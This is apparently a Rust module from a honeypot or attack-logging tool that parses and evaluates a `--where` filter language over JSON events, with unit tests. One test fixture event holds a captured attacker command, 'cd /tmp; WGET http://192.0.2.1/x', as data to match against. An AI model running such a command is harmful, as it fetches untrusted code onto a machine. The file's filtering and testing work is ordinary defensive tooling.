//! The language of `--where`.
//!
//! Key type: [`Filter`]. Grammar, blanks between words allowed:
//! ```text
//! any    = all { "or" all }
//! all    = one { "and" one }
//! one    = "not" one | "(" any ")" | field ("=" | "!=" | "~") value
//! field  = name { "." name }          as in the event's JSON: kind, source.ip, artifact.sha256
//! value  = word | '"' { character | '\"' | '\\' } '"'
//! ```
//! `=` compares the whole value, `~` asks whether it holds the text, letter case ignored. A number or truth value compares
//! by its JSON text; text from attackers by what it says (bytes that are no UTF-8 as U+FFFD). `!=` holds where there is no such field.
use serde_json::Value;
use std::borrow::Cow;
use std::fmt;

/// How deep parentheses and `not` may be nested.
const DEPTH_MAX: usize = 64;
/// The longest filter, in bytes.
const LENGTH_MAX_BYTES: usize = 4_096;

/// A condition on an event.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Filter(Node);

#[derive(Clone, Debug, PartialEq, Eq)]
enum Node {
    Any(Vec<Node>),
    All(Vec<Node>),
    Not(Box<Node>),
    Compare { field: String, operator: Operator, value: String },
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Operator {
    Is,
    IsNot,
    Holds,
}

/// What is wrong with a filter, and where. Shown with a mark below the column.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FilterError {
    text: String,
    /// characters before the error
    column: usize,
    what: String,
}

impl fmt::Display for FilterError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // The text comes from our own user, yet may have been pasted from an attack.
        let shown: String = self.text.chars().map(|c| if c.is_control() { '?' } else { c }).collect();
        let column = self.column;
        write!(f, "column {}: {}\n  {shown}\n  {:column$}^", column + 1, self.what, "")
    }
}
impl std::error::Error for FilterError {}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    Open,
    Close,
    Operator(Operator),
    Word(String),
    Quoted(String),
}

struct Parser<'a> {
    text: &'a str,
    tokens: Vec<(usize, Token)>,
    at: usize,
    depth: usize,
}

impl Filter {
    /// Reads a filter; the error names the column.
    pub fn parse(text: &str) -> Result<Filter, FilterError> {
        if text.len() > LENGTH_MAX_BYTES {
            let what = format!("the filter is longer than {LENGTH_MAX_BYTES} bytes");
            return Err(FilterError { text: String::new(), column: 0, what });
        }
        let mut parser = Parser { text, tokens: tokens(text)?, at: 0, depth: 0 };
        let node = parser.any()?;
        match parser.tokens.get(parser.at) {
            None => Ok(Filter(node)),
            Some((_, Token::Close)) => Err(parser.error("this ) closes nothing")),
            Some(_) => Err(parser.error("expected and, or, or the end")),
        }
    }

    /// The condition holds for this event.
    pub fn holds(&self, event: &Value) -> bool {
        self.0.holds(event)
    }
}

impl Node {
    fn holds(&self, event: &Value) -> bool {
        match self {
            Node::Any(nodes) => nodes.iter().any(|node| node.holds(event)),
            Node::All(nodes) => nodes.iter().all(|node| node.holds(event)),
            Node::Not(node) => !node.holds(event),
            Node::Compare { field, operator, value } => {
                let found = find(event, field);
                let is = |wanted: &str| found.as_deref() == Some(wanted);
                match operator {
                    Operator::Is => is(value),
                    Operator::IsNot => !is(value),
                    Operator::Holds => {
                        found.is_some_and(|found| found.to_lowercase().contains(&value.to_lowercase()))
                    }
                }
            }
        }
    }
}

/// The text of a field, if the event has it.
fn find<'a>(event: &'a Value, field: &str) -> Option<Cow<'a, str>> {
    let value = field.split('.').try_fold(event, |value, name| value.get(name));
    match value {
        // An absent mark is a mark that is not set.
        None if field == "demo" => Some("false".into()),
        None | Some(Value::Null) => None,
        Some(Value::String(text)) => Some(text.into()),
        Some(Value::Object(object)) => match object.get("hex").and_then(Value::as_str) {
            Some(hex) => Some(lossy(hex).into()),
            None => Some(Value::Object(object.clone()).to_string().into()),
        },
        Some(other) => Some(other.to_string().into()),
    }
}

fn lossy(hex: &str) -> String {
    let digits: Vec<u8> = hex.chars().filter_map(|c| c.to_digit(16)).map(|digit| digit as u8).collect();
    let bytes: Vec<u8> =
        digits.chunks_exact(2).map(|pair| pair.iter().fold(0, |byte, digit| byte << 4 | digit)).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn tokens(text: &str) -> Result<Vec<(usize, Token)>, FilterError> {
    let mut tokens = Vec::new();
    let mut characters = text.chars().enumerate().peekable();
    while let Some((column, c)) = characters.next() {
        let token = match c {
            c if c.is_whitespace() => continue,
            '(' => Token::Open,
            ')' => Token::Close,
            '=' => Token::Operator(Operator::Is),
            '~' => Token::Operator(Operator::Holds),
            '!' => match characters.next() {
                Some((_, '=')) => Token::Operator(Operator::IsNot),
                _ => return Err(error(text, column, "expected != (to turn a condition round, write not)")),
            },
            '"' => Token::Quoted(quoted(text, column, &mut characters)?),
            c => {
                let mut word = String::from(c);
                let part = |c: char| !c.is_whitespace() && !matches!(c, '(' | ')' | '=' | '~' | '!' | '"');
                while let Some((_, c)) = characters.next_if(|(_, c)| part(*c)) {
                    word.push(c);
                }
                Token::Word(word)
            }
        };
        tokens.push((column, token));
    }
    Ok(tokens)
}

fn quoted(
    text: &str,
    start: usize,
    characters: &mut impl Iterator<Item = (usize, char)>,
) -> Result<String, FilterError> {
    let mut value = String::new();
    while let Some((column, c)) = characters.next() {
        match c {
            '"' => return Ok(value),
            '\\' => match characters.next() {
                Some((_, c @ ('"' | '\\'))) => value.push(c),
                _ => {
                    return Err(error(
                        text,
                        column,
                        "only \\\" and \\\\ stand for something in a quoted value",
                    ));
                }
            },
            c => value.push(c),
        }
    }
    Err(error(text, start, "this quote is not closed"))
}

fn error(text: &str, column: usize, what: impl Into<String>) -> FilterError {
    FilterError { text: text.to_owned(), column, what: what.into() }
}

impl Parser<'_> {
    fn error(&self, what: impl Into<String>) -> FilterError {
        let column = self.tokens.get(self.at).map_or(self.text.chars().count(), |(column, _)| *column);
        error(self.text, column, what)
    }
    fn keyword(&mut self, wanted: &str) -> bool {
        let found = matches!(self.tokens.get(self.at), Some((_, Token::Word(word))) if word.eq_ignore_ascii_case(wanted));
        self.at += usize::from(found);
        found
    }
    fn any(&mut self) -> Result<Node, FilterError> {
        let mut nodes = vec![self.all()?];
        while self.keyword("or") {
            nodes.push(self.all()?);
        }
        Ok(Node::Any(nodes))
    }
    fn all(&mut self) -> Result<Node, FilterError> {
        let mut nodes = vec![self.one()?];
        while self.keyword("and") {
            nodes.push(self.one()?);
        }
        Ok(Node::All(nodes))
    }
    fn one(&mut self) -> Result<Node, FilterError> {
        self.depth += 1;
        if self.depth > DEPTH_MAX {
            return Err(self.error(format!("nested deeper than {DEPTH_MAX}")));
        }
        let node = self.one_inside();
        self.depth -= 1;
        node
    }
    fn one_inside(&mut self) -> Result<Node, FilterError> {
        let next_is_operator = matches!(self.tokens.get(self.at + 1), Some((_, Token::Operator(_))));
        if !next_is_operator && self.keyword("not") {
            return Ok(Node::Not(Box::new(self.one()?)));
        }
        if let Some((_, Token::Open)) = self.tokens.get(self.at) {
            self.at += 1;
            let node = self.any()?;
            return match self.tokens.get(self.at) {
                Some((_, Token::Close)) => {
                    self.at += 1;
                    Ok(node)
                }
                _ => Err(self.error("expected )")),
            };
        }
        self.compare()
    }
    fn compare(&mut self) -> Result<Node, FilterError> {
        let Some((_, Token::Word(field))) = self.tokens.get(self.at).cloned() else {
            return Err(self.error("expected a field, as kind or source.ip"));
        };
        let named = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
        if !field.chars().all(named) || field.split('.').any(str::is_empty) {
            return Err(self.error("a field is names of letters, digits and _, joined by dots"));
        }
        self.at += 1;
        let Some((_, Token::Operator(operator))) = self.tokens.get(self.at).cloned() else {
            return Err(self.error("expected =, != or ~"));
        };
        self.at += 1;
        let value = match self.tokens.get(self.at).cloned() {
            Some((_, Token::Word(value) | Token::Quoted(value))) => value,
            _ => return Err(self.error("expected a value; in double quotes if it has blanks or signs")),
        };
        self.at += 1;
        Ok(Node::Compare { field, operator, value })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn check(filter: &str, expect: bool) {
        let event = json!({
            "kind": "command", "line": "cd /tmp; WGET http://192.0.2.1/x", "demo": true, "size": 12,
            "source": { "ip": "192.0.2.7", "port": 99 }, "raw": { "hex": "ff61646d696e", "omitted_bytes": 0 },
            "name": null,
        });
        assert_eq!(Filter::parse(filter).unwrap().holds(&event), expect, "{filter}");
    }

    #[test]
    fn conditions_hold_as_the_help_says() {
        check("kind=command", true);
        check("kind = comm", false);
        check("kind != command", false);
        check("line~wget", true);
        check("line ~ \"tmp; wget\"", true);
        check("source.ip=192.0.2.7 and source.port=99", true);
        check("size=12 and demo=true", true);
        check("raw~admin", true);
        check("nothing=x", false);
        check("nothing!=x and name!=x", true);
        check("nothing~\"\"", false);
        check("kind=x or kind=command and line~wget", true);
        check("(kind=x or kind=command) and line~curl", false);
        check("not kind=x AND NOT (demo=false)", true);
        check("not = 5 or kind=command", true);
        check("url=http://192.0.2.1/x?a", false);
    }

    fn check_error(filter: &str, column: usize, what: &str) {
        let error = Filter::parse(filter).unwrap_err();
        assert_eq!(error.column, column, "{error}");
        assert!(error.to_string().contains(what), "{error}");
    }

    #[test]
    fn errors_point_at_the_column() {
        check_error("", 0, "expected a field");
        check_error("kind", 4, "expected =, != or ~");
        check_error("kind==x", 5, "expected a value");
        check_error("kind=", 5, "expected a value");
        check_error("kind=a b=c", 7, "expected and, or");
        check_error("(kind=a", 7, "expected )");
        check_error("kind=a)", 6, "closes nothing");
        check_error("kind=\"a", 5, "not closed");
        check_error("kind=\"\\n\"", 6, "quoted value");
        check_error("kind!a", 4, "expected !=");
        check_error("so..ip=a", 0, "joined by dots");
        check_error("囮 = a", 0, "letters");
        check_error("kind=囮 x", 7, "expected and");
        let deep = "(".repeat(5_000);
        assert!(Filter::parse(&deep).is_err());
        assert!(Filter::parse(&"not ".repeat(200)).is_err());
        assert_eq!(
            Filter::parse("kind=a)").unwrap_err().to_string(),
            "column 7: this ) closes nothing\n  kind=a)\n        ^"
        );
    }
}
